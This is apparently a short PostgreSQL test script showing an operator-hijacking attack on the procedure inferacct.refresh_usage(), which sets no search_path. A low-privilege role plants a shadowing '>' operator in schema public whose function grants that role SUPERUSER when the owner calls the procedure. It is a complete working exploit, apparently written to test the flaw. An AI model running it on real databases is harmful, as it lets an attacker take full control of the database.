-- S3: refresh_usage() commits, so it can set no search_path; an operator in a
-- writable schema public fits its arguments better than those of pg_catalog.
-- @owner
GRANT CREATE ON SCHEMA public TO mallory;
-- @mallory
CREATE FUNCTION public.take(numeric, int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; RETURN false; END $$;
CREATE OPERATOR public.> (FUNCTION = public.take, LEFTARG = numeric, RIGHTARG = int);
-- @owner 00000
CALL inferacct.refresh_usage();
-- @harm
SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory';
